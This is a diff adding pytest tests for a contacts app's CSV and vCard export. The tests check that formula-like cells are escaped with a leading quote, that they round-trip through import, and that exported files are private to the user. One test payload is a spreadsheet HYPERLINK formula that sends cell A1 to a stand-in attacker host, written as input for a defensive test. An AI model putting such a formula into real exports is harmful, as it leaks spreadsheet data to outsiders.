@@ -3,7 +3,9 @@ and why, and what a user gets back out."""
 
 from __future__ import annotations
 
+import csv
 import itertools
+import os
 import sqlite3
 from collections.abc import Callable
 from pathlib import Path
@@ -337,6 +339,55 @@ def test_an_export_that_cannot_be_written_says_so(tmp_path: Path) -> None:
     with pytest.raises(FileProblem, match=r"cannot write .* Choose another folder"):
         export_csv([Contact("Ana")], tmp_path / "no such folder" / "out.csv")
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_contacts_export_writes_formula_cells_as_text(tmp_path: Path, start: str) -> None:
+    """A spreadsheet runs "=HYPERLINK(…)" in a name someone sent; a leading ' makes it text."""
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    path = tmp_path / "out.csv"
+    export_csv([Contact(formula, "ana@x.example", formula, notes=formula)], path)
+
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        [header, row] = list(csv.reader(file))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Name"] == cells["Company"] == cells["Notes"] == "'" + formula
+    assert cells["Email"] == "ana@x.example"
+
+
+def test_formula_cells_exported_come_back_exactly_through_import(
+    store: Store, tmp_path: Path
+) -> None:
+    store.add_contact(Contact("-Dash", "dash@x.example", "=Acme", "@Lead", "+44 20 7946 0000"))
+    store.add_contact(Contact("'Tis O'Neil", "tis@x.example", "'=quoted", notes="-a\n=b"))
+    store.add_contact(Contact("Bo", "bo@x.example", phone="+1 555 0100", greeting="+Bo"))
+    path = tmp_path / "out.csv"
+    export_csv(store.contacts(), path)
+    assert ",'+44 20 7946 0000," in path.read_text(encoding="utf-8-sig")
+
+    with Store(tmp_path / "other.sqlite3") as fresh:
+        table = read_csv(path)
+        assert import_csv(fresh, table, guess_columns(table.header)).imported == 3
+        assert people(fresh) == people(store)
+        back = {c.email: c for c in fresh.contacts()}
+    assert (back["dash@x.example"].name, back["dash@x.example"].phone) == (
+        "-Dash",
+        "+44 20 7946 0000",
+    )
+    assert (back["bo@x.example"].phone, back["bo@x.example"].greeting) == ("+1 555 0100", "+Bo")
+    assert (back["tis@x.example"].company, back["tis@x.example"].notes) == ("'=quoted", "-a\n=b")
+
+
+def test_contact_exports_are_readable_by_the_user_alone(tmp_path: Path) -> None:
+    old = os.umask(0o022)  # most systems' default: a careless file would be 0644
+    try:
+        export_csv([Contact("Ana", "ana@x.example")], tmp_path / "out.csv")
+        (tmp_path / ".cards.vcf.part").write_text("left by a crash")  # reused, not trusted
+        export_vcards([Contact("Ana", "ana@x.example")], tmp_path / "cards.vcf")
+    finally:
+        os.umask(old)
+    modes = {p.name: p.stat().st_mode & 0o777 for p in tmp_path.iterdir()}
+    assert modes == {"out.csv": 0o600, "cards.vcf": 0o600}
 
 
 # --- vCard ------------------------------------------------------------------------------
